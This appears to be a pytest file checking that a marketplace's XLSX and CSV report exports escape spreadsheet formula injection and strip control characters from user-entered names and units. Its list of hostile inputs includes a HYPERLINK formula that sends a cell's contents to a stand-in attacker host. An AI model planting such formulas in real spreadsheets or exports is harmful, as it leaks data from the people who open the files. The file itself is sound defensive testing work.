"""Attacks on the staff's exports: formula injection through names and units, control characters.

An expert's name or a service's unit typed by one user ends up in a file another user opens in
Excel; none of it may become a formula, and one odd character must not break the export.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from marketplace.experts.models import Expert
from marketplace.reports.cells import FORMULA_TRIGGERS
from tests.conftest import expert_record
from tests.web.allocation_support import Actors, apply, create_service

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+名额",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def actors(session, settings):
    return Actors(session, settings)


@pytest.fixture
def hostile_world(client, actors):
    """Experts and a service whose user-entered text is made of spreadsheet formulas."""
    for index, name in enumerate(HOSTILE):
        body = expert_record(id=f"HX{index}", name=name.strip("\t\r"), title=name.strip("\t\r"))
        response = client.post("/api/experts", json=body, headers=actors.staff)
        assert response.status_code == 201, response.text
    service = create_service(client, actors, name="@SUM(1)", unit="+名额", vendor="=1+1")
    application = apply(client, actors.beilin, service["id"], quantity=2)
    client.post(
        f"/api/applications/{application['id']}/approve",
        json={"quantity": 2},
        headers=actors.staff,
    )
    return service


def _texts(values):
    return [v for v in values if isinstance(v, str) and v]


def test_the_workbook_holds_no_formula_and_no_cell_a_spreadsheet_would_run(
    client, actors, hostile_world
):
    response = client.get("/api/reports/allocation.xlsx", headers=actors.staff)
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_TRIGGERS), cell.value
                    seen.append(cell.value)
    assert "'@SUM(1)" in seen and "'+名额" in seen  # the service name and unit, neutralised
    assert any(v.startswith("'=HYPERLINK(") for v in seen)  # an expert's name


def test_every_csv_export_quotes_cells_that_would_start_a_formula(client, actors, hostile_world):
    report = client.get("/api/reports/allocation", headers=actors.staff).json()
    tables = [None] + [t["key"] for s in report["sections"] for t in s.get("tables", [])]
    hostile_seen = 0
    for table in tables:
        params = {"table": table} if table else {}
        response = client.get("/api/reports/allocation.csv", params=params, headers=actors.staff)
        assert response.status_code == 200, (table, response.text)
        for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))):
            for field in _texts(row):
                assert not field.startswith(FORMULA_TRIGGERS), (table, field)
                hostile_seen += field.startswith(("'=", "'+", "'@", "'-"))
    assert hostile_seen >= 3


def test_a_control_character_in_a_stored_name_does_not_break_any_export(
    client, session, actors, hostile_world
):
    # Stored before names were validated (or by a direct database edit): the export must cope.
    expert = session.get(Expert, "HX0")
    expert.name = "王\x01老师\x07"
    session.add(expert)
    session.commit()
    for period in (None, "2026-12", "2026-autumn", "2027-spring"):
        params = {"period": period} if period else {}
        response = client.get("/api/reports/allocation.xlsx", params=params, headers=actors.staff)
        assert response.status_code == 200, (period, response.text[:200])
        book = load_workbook(io.BytesIO(response.content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows(values_only=True):
                for value in _texts(row):
                    assert not any(ord(c) < 32 and c not in "\t\n\r" for c in value)
        csv_response = client.get(
            "/api/reports/allocation.csv",
            params={**params, "table": "utilisation_by_expert"},
            headers=actors.staff,
        )
        assert csv_response.status_code == 200
        assert "\x01" not in csv_response.text and "\x07" not in csv_response.text
